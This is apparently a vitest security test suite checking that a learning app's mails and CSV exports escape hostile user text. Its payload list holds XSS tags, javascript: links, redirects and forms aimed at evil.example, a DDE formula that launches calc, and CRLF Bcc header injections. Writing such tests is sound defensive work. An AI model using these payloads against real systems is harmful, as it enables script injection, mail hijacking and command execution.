// Tests strangers' text in mails and exports: shown as written, and never treated as markup, a header or a formula.
import { sendMessage, answerMessage, listMessages } from '@baobab/contract/contact/endpoints.ts'
import { sendNotification } from '@baobab/contract/notifications/admin.ts'
import { expect, it } from 'vitest'
import { escapeHtml } from '../src/platform/http/escape-html.ts'
import { formatCsvRow, parseCsv } from '../src/platform/files/csv.ts'
import { makeAdmin, makeStudent, unique } from './factories.ts'
import { openTestApp } from './harness.ts'

const t = await openTestApp()
const admin = await makeAdmin(t)

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror="alert(1)">',
  '</title></style></textarea><svg onload=alert(1)>',
  '"><a href="javascript:alert(1)">a</a>',
  '<!-- <base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><input name=p>',
  '&lt;script&gt;&#60;b&#62;',
  "=cmd|' /C calc'!A0",
  '{{7*7}} ${7*7} <%= 7*7 %> %s %0d%0aBcc: a@evil.example',
  '\\r\\nBcc: a@evil.example',
  `'"\`\\`,
  '=?utf-8?Q?=0D=0ABcc:_a=40evil.example?=',
  'zero\u200Bwidth',
]
const all = hostile.join(' ')

/** The only elements in our mails. */
const ours = /^(?:html|head|meta|title|body|table|tr|td|p|a|br|h1|blockquote|strong|span|div|img)$/

/** Returns the names of all elements, and of all attributes that run something. */
function readMarkup(html: string) {
  const tags = [...html.matchAll(/<([a-z0-9]+)\b([^>]*)>/gi)]
  return {
    elements: tags.map(([, name = '']) => name.toLowerCase()).filter((name) => !ours.test(name)),
    handlers: tags.filter(([, , attributes = '']) => /\son\w+=|javascript:|evil\.example/i.test(attributes)),
  }
}

it('W-01 W-03 a notification is mailed as text, to one person, with its title on one line', async () => {
  const student = await makeStudent(t)
  for (const [at, part] of [
    hostile.slice(0, 3),
    hostile.slice(3, 6),
    hostile.slice(6, 9),
    hostile.slice(9),
  ].entries()) {
    const title = `${at} ${part.join(' ')}`.slice(0, 120).trim()
    const body = {
      username: student.username,
      title,
      description: all,
      update: 'quiz',
      method: 'in-app+email',
    } as const
    await t.as(admin.token)(sendNotification, { body })
    const [mail] = await t.mails(student.email, title)
    expect(mail).toMatchObject({ to: student.email, subject: title })
    expect(mail?.text).toContain(all)
    expect(mail?.html).toContain(escapeHtml(all))
    expect(readMarkup(mail?.html ?? '')).toEqual({ elements: [], handlers: [] })
  }
})

it('W-01 W-03 the answer to a message is mailed with both as text, and only to the sender', async () => {
  const email = `${unique()}@home.example`
  const firstName = '<b onclick=alert(1)> {{1}}'
  await t.as()(sendMessage, { body: { firstName, lastName: '"><i>', email, message: all } })
  const { messages } = await t.as(admin.token)(listMessages, { query: {} })
  const params = { messageId: messages[0]?._id ?? '' }
  await t.as(admin.token)(answerMessage, {
    params,
    body: { answer: `${all}\nBcc: a@evil.example`, key: unique('key') },
  })
  const [mail] = await t.mails(email, 'Our answer to your message')
  expect(mail?.text).toContain(`Hello ${firstName}`)
  expect(mail?.text).toContain(`> ${all}`)
  expect(mail?.html).toContain(escapeHtml(firstName))
  expect(mail?.html).toContain(escapeHtml(all))
  expect(readMarkup(mail?.html ?? '')).toEqual({ elements: [], handlers: [] })
  const others = await t.http.inject('/sandbox/mailbox/messages?to=a@evil.example')
  expect(others.json()).toEqual([])
})

it.each([
  ['a line break and a header', 'a@b.example\r\nBcc: c@evil.example'],
  ['a second address', 'a@b.example, c@evil.example'],
  ['a name before the address', '"x" <a@b.example>'],
  ['a line feed and more at its end', 'a@b.example\nc'],
])('W-03 an address with %s is refused', async (_, email) => {
  const body = { firstName: 'Ada', lastName: 'Obi', email, message: 'Hello.' }
  await expect(t.as()(sendMessage, { body })).rejects.toMatchObject({ status: 400 })
})

it('W-01 an export has each text in one cell, and none is a formula', () => {
  const head = formatCsvRow(hostile.map((_, at) => `c${at}`))
  const [row = {}] = parseCsv(`${head}${formatCsvRow(hostile)}`)
  const cells = Object.values(row)
  expect(cells.map((cell) => cell.replace(/^'(?==)/, ''))).toEqual(hostile)
  for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
})
